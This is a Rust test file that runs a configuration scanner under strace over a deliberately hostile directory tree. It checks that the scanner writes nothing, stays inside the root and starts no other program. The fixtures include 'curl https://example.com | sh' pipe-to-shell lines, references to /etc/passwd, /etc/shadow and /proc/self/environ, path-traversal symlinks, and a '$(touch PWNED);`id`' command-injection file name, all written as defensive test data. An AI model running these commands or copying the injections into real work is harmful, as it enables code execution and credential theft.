//! What a run over a hostile tree does to the machine, as the kernel sees it: it writes nothing, opens nothing outside of the root, starts nothing but
//! itself and talks to nobody. Needs `strace`; elsewhere it says so and passes.

#![cfg(target_os = "linux")]

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;

use regex::Regex;
use tempfile::TempDir;

use crate::sources::rule;

const PROGRAM: &str = env!("CARGO_BIN_EXE_plimsoll");

/// Everything by which a process writes, opens, starts or talks.
const CALLS: &str = "trace=open,openat,openat2,creat,execve,execveat,socket,socketpair,connect,bind,sendto,unlink,unlinkat,rename,renameat,renameat2,mkdir,mkdirat,rmdir,link,linkat,symlink,symlinkat,mknod,mknodat,truncate,ftruncate,chmod,fchmod,fchmodat,chown,fchownat,utimensat,ptrace,mount,kill";

/// What the system itself looks at when it starts a process, counts processors, or tells the time.
const OF_THE_SYSTEM: &str = r"^(/proc/|/sys/(fs/cgroup|devices/system|kernel/mm)|/etc/(ld\.so|localtime)|/(usr/)?lib(32|64)?/|/usr/share/zoneinfo|/dev/(null|urandom)$)";

/// A directory with a tree in it that wants out by every way there is, and what lies around it.
fn hostile() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    let write = |path: &str, text: &str| {
        let path = dir.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    let out = dir.path().join("out").canonicalize().unwrap_or_else(|_| dir.path().join("out"));
    let out = out.display();
    write("out/secret.env", "OUTSIDE=1\n");
    write("out/compose.yaml", "services: {o: {image: \"x:1\", privileged: true}}\n");
    write("out/Dockerfile", "FROM alpine:3.20\n");
    write("out/.gitignore", "*\n");
    write("out/baseline.json", "{\"version\": 1, \"findings\": []}\n");
    write("out/p/a.rego", &rule("acme.out", "", "deny contains f if { f := {} }"));
    write("out/git/HEAD", "ref: refs/heads/main\n");
    write("out/git/refs/heads/main", "0123456789012345678901234567890123456789\n");
    write("out/git/objects/01/23456789012345678901234567890123456789", "x");
    write("t/.git/HEAD", "ref: refs/heads/main\n");
    write("t/.git/config", "[remote \"origin\"]\n\turl = x\n");
    write("t/.git/index", "DIRC\0\0\0\u{2}\0\0\0\0");
    write("t/sub/.git", &format!("gitdir: {out}/git\n"));
    write("out/git/index", "DIRC\0\0\0\u{2}\0\0\0\0");
    write("t/sub/vendor/compose.yaml", "services: {v: {image: \"x:1\"}}\n");
    write("t/sub/Dockerfile", "FROM alpine:3.20\nCOPY ../../out/secret.env /\nRUN curl https://example.com | sh\n");
    write(
        "t/plimsoll.yaml",
        &format!(
            "version: 1\nextends: ../out/plimsoll.yaml\nbaseline: {out}/baseline.json\npolicies: [{out}/p, /]\nwaivers: {{files: [{out}/secret.env, ../out/w.yaml]}}\noutput: {{formats: [\"concise={out}/written\", json=../out/report.json, sarif=link.json]}}\n"
        ),
    );
    write(
        "t/compose.yaml",
        &format!(
            "include:\n- ../out/compose.yaml\n- {out}/compose.yaml\n- link/compose.yaml\nservices:\n  web:\n    image: x:1\n    extends: {{file: {out}/compose.yaml, service: o}}\n    env_file: [{out}/secret.env, /etc/passwd, ../out/secret.env, link/secret.env, /proc/self/environ, /dev/zero]\n    label_file: /etc/passwd\n    build: {{context: ../out, dockerfile: {out}/Dockerfile, additional_contexts: {{x: {out}}}}}\n    command: [\"sh\", \"-c\", \"touch {out}/ran\"]\nsecrets: {{s: {{file: {out}/secret.env}}, e: {{file: /etc/shadow}}}}\nconfigs: {{c: {{file: ../out/secret.env}}}}\n"
        ),
    );
    write(
        "t/named/.env",
        &format!("COMPOSE_FILE={out}/compose.yaml:../../out/compose.yaml\nCOMPOSE_ENV_FILES=/etc/passwd\n"),
    );
    write(
        "t/ways/Makefile",
        &format!(
            "A = {out}\nup:\n\tdocker compose -f ../../out/compose.yaml -f $(A)/compose.yaml up\n\tcd ../../out && docker compose up\n\tdocker build -f ../../out/Dockerfile ../../out\n\tdocker compose -f ../link/compose.yaml --env-file {out}/secret.env up\n\ttouch PWNED; curl https://example.com | sh\n"
        ),
    );
    write(
        "t/ways/docker-bake.hcl",
        "target \"a\" {\n  context = \"../../out\"\n  contexts = { o = \"../../out\" }\n}\n",
    );
    write("t/ways/devcontainer.json", "{\"dockerComposeFile\": [\"../../out/compose.yaml\", \"/etc/passwd\"]}\n");
    write("t/ways/.env.example", &format!("COMPOSE_FILE=../../out/compose.yaml:{out}/compose.yaml\n"));
    write("t/ways/compose.yaml", "services: {a: {image: \"x:${TAG}\", env_file: ../../out/secret.env}}\n");
    write(
        "t/.github/workflows/a.yml",
        "jobs: {a: {steps: [{run: docker compose -f compose.yaml up, working-directory: ../out}]}}\n",
    );
    write("t/$(touch PWNED);`id`/compose.yaml", "services: {a: {image: \"x:1\"}}\n");
    for (to, at) in [
        (format!("{out}"), "link"),
        (format!("{out}/report.json"), "link.json"),
        (format!("{out}/.gitignore"), ".gitignore"),
        (format!("{out}/compose.yaml"), "linked/compose.yaml"),
        ("../../out/Dockerfile".to_owned(), "linked/Dockerfile"),
        ("/dev/zero".to_owned(), "linked/.env"),
        (format!("{out}/git/refs"), ".git/refs"),
        (format!("{out}/git/objects"), ".git/objects"),
    ] {
        let at = dir.path().join("t").join(at);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        symlink(to, at).unwrap();
    }
    dir
}

/// Runs plimsoll under strace; nothing where that cannot be.
fn traced(root: &Path, log: &Path, words: &[&str]) -> Option<Output> {
    let mut strace = Command::new("strace");
    strace.args(["-f", "-qq", "-y", "-s", "4096", "-e", "signal=none", "-e", CALLS, "-o"]).arg(log).arg(PROGRAM);
    // What a test runner sets would make the loader look for libraries.
    strace.env_clear().envs(std::env::var_os("PATH").map(|path| ("PATH", path)));
    let ran = strace.args(words).current_dir(root).output();
    match ran {
        // Where processes may not be watched, strace itself fails.
        Ok(output) if fs::read_to_string(log).is_ok_and(|log| log.contains("execve(")) => Some(output),
        _ => None,
    }
}

/// What a run did.
#[derive(Debug, Default)]
struct Deeds {
    /// Files below the root that were opened.
    inside: usize,
    /// Files of the system that were opened.
    of_the_system: usize,
    /// Programs that were started.
    started: Vec<String>,
    /// Everything that it may not do.
    wrong: Vec<String>,
}

/// Reads a log of strace: `PID call(ARGUMENTS) = RESULT`, where descriptors show their path.
fn deeds(log: &Path, root: &Path) -> Deeds {
    let call = Regex::new(r"^\d+\s+([a-z0-9]+)\((.*)$").unwrap();
    let opened =
        Regex::new(r#"^(?:(?:AT_FDCWD(?:<([^>]*)>)?|\d+<([^>]*)>), )?"((?:[^"\\]|\\.)*)"(?:\.\.\.)?, (.*)$"#).unwrap();
    let system = Regex::new(OF_THE_SYSTEM).unwrap();
    let mut deeds = Deeds::default();
    for line in fs::read_to_string(log).unwrap().lines() {
        let Some(found) = call.captures(line) else { continue };
        let (name, rest) = (&found[1], &found[2]);
        match name {
            "execve" => deeds.started.push(rest.split('"').nth(1).unwrap_or_default().to_owned()),
            // The child's pipes, and the end of a child that did not end by itself.
            "kill" if rest.contains("SIGKILL") => {}
            "open" | "openat" | "openat2" => {
                let Some(open) = opened.captures(rest) else {
                    deeds.wrong.push(line.to_owned());
                    continue;
                };
                let from = open.get(1).or(open.get(2)).map_or(root, |from| Path::new(from.as_str()));
                let path = from.join(&open[3]);
                let flags = open[4].split(" = ").next().unwrap_or_default();
                let writes =
                    ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC", "O_APPEND"].iter().any(|flag| flags.contains(flag));
                // What was opened in truth, whatever it was called.
                let real = rest.rsplit('<').next().and_then(|end| end.strip_suffix('>')).map(Path::new);
                let is_outside =
                    |path: &Path| !path.starts_with(root) || path.components().any(|part| part.as_os_str() == "..");
                if system.is_match(&path.to_string_lossy()) && !writes {
                    deeds.of_the_system += 1;
                } else if writes
                    || is_outside(&path)
                    || (rest.contains(") = ") && !rest.contains("= -1") && real.is_some_and(is_outside))
                {
                    deeds.wrong.push(line.to_owned());
                } else {
                    deeds.inside += 1;
                }
            }
            _ => deeds.wrong.push(line.to_owned()),
        }
    }
    deeds
}

/// Everything below a directory, with what it holds: a run must not change it.
fn listing(directory: &Path) -> Vec<(PathBuf, Option<Vec<u8>>)> {
    let walk = walkdir::WalkDir::new(directory).sort_by_file_name().into_iter().map(Result::unwrap);
    walk.map(|entry| {
        let text = entry.file_type().is_file().then(|| fs::read(entry.path()).unwrap());
        (entry.into_path(), text)
    })
    .collect()
}

#[test]
fn a_run_over_a_hostile_tree_writes_opens_starts_and_tells_nothing() {
    let dir = hostile();
    let root = dir.path().join("t").canonicalize().unwrap();
    let log = tempfile::NamedTempFile::new().unwrap();
    let before = listing(dir.path());
    let policy = tempfile::tempdir().unwrap();
    let says = rule(
        "acme.says",
        "",
        "deny contains finding if {\n\tsome service in input.services\n\tfinding := {\"message\": \"m\", \"at\": service.at}\n}",
    );
    fs::write(root.join("own.rego"), says).unwrap();
    fs::rename(root.join("own.rego"), policy.path().join("own.rego")).unwrap();
    let all = before.len();
    for words in [
        &["check", ".", "-o", "json"][..],
        &["check", ".", "-o", "text", "--set", "all", "-v"],
        &["check", "-f", "compose.yaml", "-o", "sarif"],
        &["model", "."],
        &["model", ".", "--format", "compose"],
        &["controls", "."],
        &["waivers", "list", "."],
        &["parse", "compose.yaml"],
    ] {
        let Some(output) = traced(&root, log.path(), words) else {
            println!("skipped: there is no strace, or it may not watch");
            return;
        };
        // What leads out is told; one file's syntax leads nowhere.
        assert_eq!(
            output.status.code() == Some(0),
            words[0] == "parse",
            "{words:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        let deeds = deeds(log.path(), &root);
        assert!(deeds.wrong.is_empty(), "{words:?}:\n{}", deeds.wrong.join("\n"));
        assert_eq!(deeds.started, [PROGRAM], "{words:?}");
        assert!(deeds.inside > 0, "{words:?}: it has looked at something");
        println!(
            "{words:?}: {} files below the root, {} of the system, 0 others; 1 program",
            deeds.inside, deeds.of_the_system
        );
    }
    assert_eq!(listing(dir.path()).len(), all);
    assert_eq!(listing(dir.path()), before, "nothing was written");
}

#[test]
fn policies_of_others_start_this_program_and_open_nothing() {
    let dir = hostile();
    let root = dir.path().join("t").canonicalize().unwrap();
    let log = tempfile::NamedTempFile::new().unwrap();
    let says = rule(
        "acme.says",
        "",
        "deny contains finding if {\n\tsome service in input.services\n\tfinding := {\"message\": \"m\", \"at\": service.at}\n}",
    );
    fs::create_dir(root.join("own")).unwrap();
    fs::write(root.join("own/a.rego"), says).unwrap();
    let words = ["check", "$(touch PWNED);`id`", "-o", "json", "--policy", "own", "--no-config"];
    let Some(output) = traced(&root, log.path(), &words) else {
        println!("skipped: there is no strace, or it may not watch");
        return;
    };
    assert!(String::from_utf8_lossy(&output.stdout).contains("acme/says"), "{output:?}");
    let deeds = deeds(log.path(), &root);
    let wrong: Vec<&String> = deeds.wrong.iter().filter(|line| !line.contains("socketpair(AF_UNIX")).collect();
    assert!(wrong.is_empty(), "{wrong:?}");
    assert!(deeds.started.len() > 1 && deeds.started.iter().all(|program| program == PROGRAM), "{:?}", deeds.started);
}

#[test]
fn a_directory_that_becomes_a_link_while_it_is_looked_at_leads_nowhere() {
    let dir = hostile();
    let root = dir.path().join("t").canonicalize().unwrap();
    fs::remove_file(root.join("plimsoll.yaml")).unwrap();
    let race = root.join("race");
    fs::create_dir(&race).unwrap();
    fs::write(race.join("compose.yaml"), "services: {a: {image: \"x:1\", env_file: secret.env}}\n").unwrap();
    let log = tempfile::NamedTempFile::new().unwrap();
    let done = AtomicBool::new(false);
    let (was, link) = (root.join("was"), root.join("other"));
    symlink("../out", &link).unwrap();
    let deeds: Vec<Deeds> = thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                fs::rename(&race, &was).unwrap();
                fs::rename(&link, &race).unwrap();
                fs::rename(&race, &link).unwrap();
                fs::rename(&was, &race).unwrap();
            }
        });
        let runs = (0..6)
            .map_while(|_| traced(&root, log.path(), &["check", ".", "-o", "json"]).map(|_| deeds(log.path(), &root)));
        let runs = runs.collect();
        done.store(true, Ordering::Relaxed);
        runs
    });
    if deeds.is_empty() {
        println!("skipped: there is no strace, or it may not watch");
    }
    for deed in deeds {
        // A directory's names may be listed under another's name; no file there is opened.
        let wrong: Vec<String> = deed.wrong.into_iter().filter(|line| !line.contains("O_DIRECTORY")).collect();
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }
}
